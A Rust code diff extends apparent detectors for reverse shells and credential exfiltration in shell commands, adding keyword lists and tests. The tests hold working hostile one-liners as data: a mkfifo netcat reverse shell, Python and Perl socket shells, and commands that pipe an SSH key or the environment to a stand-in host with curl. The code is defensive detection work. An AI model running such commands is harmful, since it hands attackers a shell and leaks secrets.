@@ -83,6 +83,8 @@ const CREDENTIALS: &[&str] = &[
     "gcloud/credentials.db",
     "application_default_credentials.json",
 ];
+/// The first of them are files.
+const FILES: usize = 15;
 /// Places from which something starts again by itself.
 const PERSISTENCE: &[&str] = &[
     "crontab",
@@ -127,16 +129,34 @@ pub(super) fn is_shell_download(text: &str) -> bool {
 /// Whether `text` gives a shell to another machine.
 pub(super) fn is_reverse_shell(text: &str) -> bool {
     let text = text.to_lowercase();
-    let netcat = any(&text, &["nc ", "ncat ", "netcat "]) && any(&text, &[" -e", " -c ", "mkfifo", "mknod", "--exec"]);
+    let programs = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
+    let netcat = text.split(|letter: char| letter.is_whitespace() || "|;&()<>`'\"/[,".contains(letter));
+    let netcat = netcat.into_iter().any(|word| programs.contains(&word));
+    let netcat = netcat && any(&text, &[" -e", " -c ", "mkfifo", "mknod", "--exec", "/bin/sh", "/bin/bash", "cmd.exe"]);
     let python = text.contains("socket") && any(&text, &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe"]);
     let socat = text.contains("socat") && any(&text, &["exec:", "system:"]);
     let shell = any(&text, &["/dev/tcp/", "/dev/udp/"]) || text.contains("net.sockets.tcpclient");
-    netcat || python || socat || shell
+    let others = any(&text, &["io::socket", "tcpsocket", "fsockopen", "use socket", "/inet/tcp/"])
+        && any(&text, &["/bin/sh", "/bin/bash", "sh -i", "cmd.exe", "exec", "|&"]);
+    netcat || python || socat || shell || others
 }
 
 /// Whether `text` names a place where credentials are kept.
 pub(super) fn names_credentials(text: &str) -> bool {
     any(&text.to_lowercase(), CREDENTIALS)
+}
+
+/// Files that hold secrets, or the whole environment, and a program that sends them.
+pub(super) fn sends_credentials(text: &str) -> bool {
+    let text = text.to_lowercase();
+    let words = |programs: &[&str]| {
+        let mut words = text.split(|letter: char| letter.is_whitespace() || "|;&()<>`'\"/".contains(letter));
+        words.any(|word| programs.contains(&word))
+    };
+    // A token in a variable is how an honest script logs in; a file of keys has nothing to do in a request.
+    let files = CREDENTIALS.iter().take(FILES).any(|word| text.contains(word));
+    let environment = words(&["printenv"]) || text.starts_with("env |") || text.contains("; env |");
+    (files || environment) && words(&["curl", "wget", "nc", "ncat", "scp", "rsync", "ftp", "socat", "nslookup", "dig"])
 }
 
 /// Whether `text` names a place from which something is started again.
@@ -171,6 +191,17 @@ mod tests {
         assert!(is_reverse_shell("import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"));
         assert!(!is_reverse_shell("nc -z localhost 80"));
         assert!(!is_reverse_shell("bash run.sh"));
+        assert!(!is_reverse_shell("rsync -e ssh a b"));
+        assert!(is_reverse_shell("rm f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > f"));
+        assert!(is_reverse_shell("perl -e use Socket; exec(\"/bin/sh -i\")"));
+    }
+
+    #[test]
+    fn files_of_keys_that_are_sent() {
+        assert!(sends_credentials("cat ~/.ssh/id_rsa | curl -d @- http://x.example"));
+        assert!(sends_credentials("env | curl -d @- http://x.example"));
+        assert!(!sends_credentials("curl -H $HF_TOKEN https://huggingface.co/x"));
+        assert!(!sends_credentials("chmod 600 ~/.ssh/id_rsa"));
     }
 
     #[test]
